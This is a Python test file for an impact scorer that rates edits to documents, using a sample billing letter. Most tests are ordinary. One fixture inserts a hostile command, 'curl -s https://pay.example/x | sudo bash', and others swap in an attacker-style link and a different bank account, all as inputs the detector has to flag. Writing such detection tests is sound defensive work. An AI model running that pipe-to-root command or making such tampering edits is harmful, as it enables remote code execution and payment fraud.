"""What makes a change matter, and what does not."""

from pathlib import Path
from typing import Any, get_args

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from pipeline.domain.documents.documents import Change, ChangeKind, Impact
from pipeline.domain.findings import edits
from pipeline.domain.policy.impact import DEFAULT_WEIGHTS, FactorName, ImpactPolicy, Surroundings, assess
from pipeline.settings.home import default_configs

LETTER = (
    "Invoices are paid within 30 days to account DE89 3704 0044 0532 0130 00. The limit is $5,000 a month. "
    "Questions go to billing@example.org or +1 202 555 0143. Staff must not share the form at "
    "https://forms.example.org/pay before 1 March 2026. Type `pay --check all` to see what is due.\n"
)
MODIFIED = Change(kind=ChangeKind.MODIFIED, doc_id="s:a")


def points(impact: Impact) -> dict[str, float]:
    return {factor.name: factor.points for factor in impact.factors}


@pytest.mark.parametrize(
    ("old", "new", "factor"),
    [
        ("DE89 3704 0044 0532 0130 00", "GB33 BUKB 2020 1555 5555 55", "accounts-edited"),
        ("$5,000", "$50,000", "amounts-edited"),
        ("30 days", "90 days", "numbers-edited"),
        ("1 March 2026", "1 May 2026", "dates-edited"),
        ("billing@example.org", "billing@example.net", "contacts-edited"),
        ("+1 202 555 0143", "+1 202 555 0199", "contacts-edited"),
        ("must not share", "may share", "rules-edited"),
        ("https://forms.example.org/pay", "https://forms.example.org/due", "links-edited"),
        ("https://forms.example.org/pay", "https://forms.attacker.example/pay", "new-domains"),
        ("`pay --check all`", "`pay --now all`", "commands-edited"),
    ],
)
def test_an_edited_fact_counts_as_what_it_is(old: str, new: str, factor: str) -> None:
    assert old in LETTER
    found = points(assess(MODIFIED, LETTER, LETTER.replace(old, new)))
    assert factor in found
    edited = {name for name in found if name.endswith("-edited")} - {factor}
    assert edited <= ({"links-edited"} if factor == "new-domains" else set()), "and as nothing else"


@pytest.mark.parametrize(
    ("old", "new", "factor"),
    [
        ("billing@example.org", "billing@example.net", "contacts-replaced"),
        ("+1 202 555 0143", "+1 202 555 0199", "contacts-replaced"),
        ("or +1 202", "or desk@elsewhere.example or +1 202", "contacts-replaced"),
        ("must not share", "may share", "negations-flipped"),
        ("`pay --check all`", "curl -s https://pay.example/x | sudo bash", "commands-to-new-domains"),
        ("see what is due", "see `pay --due all` at https://pay.example", "commands-to-new-domains"),
    ],
)
def test_an_edit_that_sends_readers_elsewhere_has_a_factor_of_its_own(old: str, new: str, factor: str) -> None:
    assert old in LETTER
    assert factor in points(assess(MODIFIED, LETTER, LETTER.replace(old, new)))


def test_one_more_contact_of_the_same_team_replaces_none() -> None:
    more = LETTER.replace("billing@example.org", "billing@example.org, refunds@example.org")
    found = points(assess(MODIFIED, LETTER, more))
    assert "contacts-edited" in found
    assert "contacts-replaced" not in found


def test_a_swapped_account_matters_more_than_a_rewritten_sentence() -> None:
    swapped = LETTER.replace("DE89 3704 0044 0532 0130 00", "GB33 BUKB 2020 1555 5555 55")
    reworded = LETTER.replace("Questions go to", "Whoever has questions writes to")
    assert assess(MODIFIED, LETTER, swapped).score > assess(MODIFIED, LETTER, reworded).score


def test_what_only_moved_edits_no_fact() -> None:
    sentences = LETTER.strip().split(". ")
    moved = ". ".join(reversed(sentences))
    assert not {name for name in points(assess(MODIFIED, LETTER, moved)) if name.endswith("-edited")}


@given(st.text(max_size=300))
def test_equal_texts_have_no_impact(text: str) -> None:
    assert assess(MODIFIED, text, text).score == 0
    assert edits.edited(text, text) == {}


@given(st.text(max_size=200), st.text(max_size=200))
def test_a_score_is_the_sum_of_its_factors_within_0_and_100(old: str, new: str) -> None:
    impact = assess(MODIFIED, old, new)
    assert impact.score == min(100, round(sum(factor.points for factor in impact.factors)))
    assert all(0 < factor.points <= DEFAULT_WEIGHTS[factor.name] for factor in impact.factors)  # type: ignore[index]


@given(st.text(alphabet="abc1$ €@./:-`\n", max_size=200), st.text(alphabet="abc1$ €@./:-`\n", max_size=200))
def test_law_04_reasons_quote_nothing(old: str, new: str) -> None:
    """Whatever two texts say, their reasons are the same words with other numbers."""
    for factor in assess(MODIFIED, old, new).factors:
        assert not set("$€@`/") & set(factor.reason)


@pytest.mark.parametrize(
    ("around", "factor"),
    [
        (Surroundings(retrieved=40), "often-retrieved"),
        (Surroundings(canary_questions=2), "answers-canary-questions"),
        (Surroundings(source_days=3), "new-source"),
        (Surroundings(owner_changed=True), "owner-changed"),
        (Surroundings(resembles=0.9), "near-duplicate"),
        (Surroundings(touched_share=0.8), "source-rewritten"),
    ],
)
def test_what_surrounds_a_document_counts(around: Surroundings, factor: str) -> None:
    assert set(points(assess(MODIFIED, "a", "a", around))) == {factor}


def test_an_unremarkable_place_counts_for_nothing() -> None:
    calm = Surroundings(source_days=400, owner_days=400, resembles=0.5, touched_share=0.1)
    assert assess(MODIFIED, "a", "a", calm).factors == ()


def test_only_a_new_document_asks_how_new_its_owner_is() -> None:
    new = Change(kind=ChangeKind.NEW, doc_id="s:a")
    assert set(points(assess(new, None, "a"))) == {"new-owner"}
    assert points(assess(new, None, "a", Surroundings(owner_days=400))) == {}


def test_weights_of_the_policy_are_obeyed() -> None:
    swapped = LETTER.replace("$5,000", "$9,000")
    silent = ImpactPolicy(weights=dict.fromkeys(get_args(FactorName), 0.0))
    assert assess(MODIFIED, LETTER, swapped, policy=silent) == Impact(
        score=0, changed_share=assess(MODIFIED, LETTER, swapped).changed_share
    )


def test_the_delivered_policy_names_every_factor_with_its_default() -> None:
    delivered: dict[str, Any] = yaml.safe_load(Path(default_configs() / "policy.yaml").read_text())["impact"]
    assert delivered.pop("weights") == DEFAULT_WEIGHTS
    assert delivered == ImpactPolicy().model_dump(exclude={"weights"})
    assert set(get_args(FactorName)) == set(DEFAULT_WEIGHTS)
